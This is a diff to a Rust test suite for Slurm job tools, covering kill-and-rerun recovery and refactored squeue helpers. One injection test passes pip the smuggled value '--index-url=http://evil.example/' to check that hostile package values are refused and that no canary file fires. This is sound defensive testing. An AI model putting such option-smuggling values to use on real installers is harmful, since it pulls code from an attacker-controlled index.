@@ -70,7 +70,7 @@ fn fault_at(
     fault: impl FnOnce(),
 ) -> Run {
     use std::io::Read;
-    let (mut child, lines, mut stderr) = spawn_paused(tool_name, doc, step, pause);
+    let (mut child, lines, mut stderr) = spawn_paused(tool(tool_name), doc, step, pause);
     let mut stdout = child.stdout.take().unwrap();
     let out_reader = std::thread::spawn(move || {
         let mut s = String::new();
@@ -94,20 +94,36 @@ fn fault_at(
 
 /// How many jobs Slurm knows (any state) by this name.
 fn jobs_named(name: &str) -> usize {
+    job_ids_named(name).len()
+}
+
+/// Job ids Slurm knows (any state) by this name.
+fn job_ids_named(name: &str) -> Vec<String> {
+    job_ids_in(name, "all")
+}
+
+/// Allocations by this name that are still held (pending or running).
+fn held_allocations(name: &str) -> Vec<String> {
+    job_ids_in(name, "PENDING,RUNNING")
+}
+
+fn job_ids_in(name: &str, states: &str) -> Vec<String> {
     let sq = Command::new("squeue")
-        .args(["-h", "--states=all", "-o", "%j"])
+        .args(["-h", &format!("--states={states}"), "-o", "%i %j"])
         .output()
         .unwrap();
     String::from_utf8_lossy(&sq.stdout)
         .lines()
-        .filter(|l| *l == name)
-        .count()
+        .filter_map(|l| l.split_once(' '))
+        .filter(|(_, n)| *n == name)
+        .map(|(id, _)| id.to_string())
+        .collect()
 }
 
-/// Start a tool that pauses at `step` for `pause` seconds; return once it says it paused, with
-/// the rest of its stderr still to read and what it said so far.
+/// Start a tool (`cmd`, its arguments given) that pauses at `step` for `pause` seconds; return
+/// once it says it paused, with the rest of its stderr still to read and what it said so far.
 fn spawn_paused(
-    tool_name: &str,
+    mut cmd: Command,
     doc: &serde_json::Value,
     step: &str,
     pause: u64,
@@ -117,7 +133,7 @@ fn spawn_paused(
     String,
 ) {
     use std::io::{BufRead, Write};
-    let mut child = tool(tool_name)
+    let mut child = cmd
         .env("SLURM_TOOLS_PAUSE_AT", step)
         .env("SLURM_TOOLS_PAUSE_SECONDS", pause.to_string())
         .stdin(std::process::Stdio::piped())
@@ -141,10 +157,7 @@ fn spawn_paused(
             break;
         }
     }
-    assert!(
-        seen.contains("paused at"),
-        "{tool_name} never reached {step}:\n{seen}"
-    );
+    assert!(seen.contains("paused at"), "never reached {step}:\n{seen}");
     (child, lines, seen)
 }
 
@@ -275,10 +288,14 @@ fn a_dead_mfa_master_stops_the_watch_with_exit_3_and_a_rerun_resumes() {
     assert_eq!(w.doc["report"]["excerpt"], json!(["start", "end"]));
 }
 
-fn alloc(args: &[&str], doc: &serde_json::Value) -> Run {
+fn alloc_cmd(args: &[&str]) -> Command {
     let mut cmd = Command::new(env!("CARGO_BIN_EXE_slurm-alloc"));
     cmd.args(args).env("XDG_CONFIG_HOME", "/nonexistent");
-    run_raw(cmd, doc.to_string().as_bytes())
+    cmd
+}
+
+fn alloc(args: &[&str], doc: &serde_json::Value) -> Run {
+    run_raw(alloc_cmd(args), doc.to_string().as_bytes())
 }
 
 fn alloc_doc(host_key: &str, name: &str) -> serde_json::Value {
@@ -489,7 +506,16 @@ fn kill_at(
     step: &str,
     signal: &str,
 ) -> std::process::Output {
-    let (child, _rest, _seen) = spawn_paused(tool_name, doc, step, 60);
+    kill_cmd_at(tool(tool_name), doc, step, signal)
+}
+
+fn kill_cmd_at(
+    cmd: Command,
+    doc: &serde_json::Value,
+    step: &str,
+    signal: &str,
+) -> std::process::Output {
+    let (child, _rest, _seen) = spawn_paused(cmd, doc, step, 60);
     assert!(Command::new("kill")
         .args([signal, &child.id().to_string()])
         .status()
@@ -905,6 +931,29 @@ fn a_watch_killed_mid_poll_leaves_the_job_alone_and_a_rerun_resumes() {
             "{signal}: a poll loop is left on the cluster: {}",
             String::from_utf8_lossy(&ps.stdout)
         );
+
+        // Killed after its verdict, before it wrote the report: a rerun says the same.
+        let work = tempdir();
+        let mut done = s.doc.clone();
+        done["work_dir"] = json!(work.path());
+        let out = kill_at("slurm-watch", &done, "watch:verdict", signal);
+        assert_ne!(out.status.code(), Some(0), "{signal}: it was killed");
+        assert!(out.stdout.is_empty(), "{signal}: no half document");
+        let again = run("slurm-watch", &["--interval", "1"], &done);
+        assert_eq!(again.code, 0, "{signal}: {}", again.stderr);
+        assert_eq!(again.doc["report"]["status"], "PASSED");
+        assert_eq!(again.doc["report"]["local_log_complete"], true);
+        let local = again.doc["report"]["local_log"].as_str().unwrap();
+        assert_eq!(std::fs::read_to_string(local).unwrap(), "start\nend\n");
+        let names: Vec<_> = std::fs::read_dir(work.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name())
+            .collect();
+        assert_eq!(
+            names.len(),
+            1,
+            "{signal}: only the log, no part file: {names:?}"
+        );
     }
 }
 
@@ -924,20 +973,6 @@ fn a_preflight_killed_before_its_check_changes_nothing_and_a_rerun_passes() {
         assert_eq!(p.code, 0, "{signal}: {}", p.stderr);
         assert_eq!(p.doc["preflight"]["ssh_path"], "direct");
     }
-}
-
-/// Job ids Slurm knows (any state) by this name.
-fn job_ids_named(name: &str) -> Vec<String> {
-    let sq = Command::new("squeue")
-        .args(["-h", "--states=all", "-o", "%i %j"])
-        .output()
-        .unwrap();
-    String::from_utf8_lossy(&sq.stdout)
-        .lines()
-        .filter_map(|l| l.split_once(' '))
-        .filter(|(_, n)| *n == name)
-        .map(|(id, _)| id.to_string())
-        .collect()
 }
 
 #[test]
@@ -991,58 +1026,8 @@ fn a_submit_killed_after_slurm_accepted_is_found_by_its_rerun_not_submitted_agai
     }
 }
 
-/// Allocations (any state) Slurm knows by this name that are still held.
-fn held_allocations(name: &str) -> Vec<String> {
-    let sq = Command::new("squeue")
-        .args(["-h", "--states=PENDING,RUNNING", "-o", "%i %j"])
-        .output()
-        .unwrap();
-    String::from_utf8_lossy(&sq.stdout)
-        .lines()
-        .filter_map(|l| l.split_once(' '))
-        .filter(|(_, n)| *n == name)
-        .map(|(id, _)| id.to_string())
-        .collect()
-}
-
 fn alloc_killed_at(args: &[&str], doc: &serde_json::Value, step: &str, signal: &str) {
-    let (child, _rest, _seen) = {
-        use std::io::{BufRead, Write};
-        let mut child = Command::new(env!("CARGO_BIN_EXE_slurm-alloc"))
-            .args(args)
-            .env("XDG_CONFIG_HOME", "/nonexistent")
-            .env("SLURM_TOOLS_PAUSE_AT", step)
-            .env("SLURM_TOOLS_PAUSE_SECONDS", "60")
-            .stdin(std::process::Stdio::piped())
-            .stdout(std::process::Stdio::piped())
-            .stderr(std::process::Stdio::piped())
-            .spawn()
-            .unwrap();
-        child
-            .stdin
-            .take()
-            .unwrap()
-            .write_all(doc.to_string().as_bytes())
-            .unwrap();
-        let mut lines = std::io::BufReader::new(child.stderr.take().unwrap()).lines();
-        let mut seen = String::new();
-        for line in lines.by_ref() {
-            let line = line.unwrap();
-            seen.push_str(&line);
-            seen.push('\n');
-            if line.contains(&format!("paused at {step}")) {
-                break;
-            }
-        }
-        assert!(seen.contains("paused at"), "never reached {step}:\n{seen}");
-        (child, lines, seen)
-    };
-    assert!(Command::new("kill")
-        .args([signal, &child.id().to_string()])
-        .status()
-        .unwrap()
-        .success());
-    let out = child.wait_with_output().unwrap();
+    let out = kill_cmd_at(alloc_cmd(args), doc, step, signal);
     assert_ne!(out.status.code(), Some(0), "{step} {signal}: it was killed");
     assert!(out.stdout.is_empty(), "{step} {signal}: no half document");
 }
@@ -1102,14 +1087,7 @@ fn alloc_killed_at_every_step_holds_one_allocation_and_a_rerun_finishes_the_work
 #[test]
 fn hostile_packages_reach_pip_in_the_container_literally_and_no_canary_fires() {
     let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
-    let canary = std::path::PathBuf::from(format!(
-        "/tmp/slurm-tools-canary-packages-{}",
-        std::process::id()
-    ));
-    let _ = std::fs::remove_dir_all(&canary);
-    std::fs::create_dir_all(&canary).unwrap();
-    use std::os::unix::fs::PermissionsExt;
-    std::fs::set_permissions(&canary, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let canary = canary_dir("packages");
     let c = canary.display();
     let name = format!("st-alloc-pkgs-{}", std::process::id());
     let mut d = alloc_doc("direct_host", &name);
@@ -1136,12 +1114,7 @@ fn hostile_packages_reach_pip_in_the_container_literally_and_no_canary_fires() {
         said.contains("Invalid requirement") || said.contains("Invalid marker"),
         "pip got the values and refused them: {said}"
     );
-    let fired: Vec<_> = std::fs::read_dir(&canary)
-        .unwrap()
-        .map(|e| e.unwrap().file_name())
-        .collect();
-    assert!(fired.is_empty(), "injection: canary files: {fired:?}");
-    std::fs::remove_dir_all(&canary).unwrap();
+    assert_no_canary(&canary);
     // A value starting with '-' would be an option to pip: refused before anything runs.
     let mut opt = alloc_doc("direct_host", &name);
     opt["packages"] = json!(["--index-url=http://evil.example/"]);
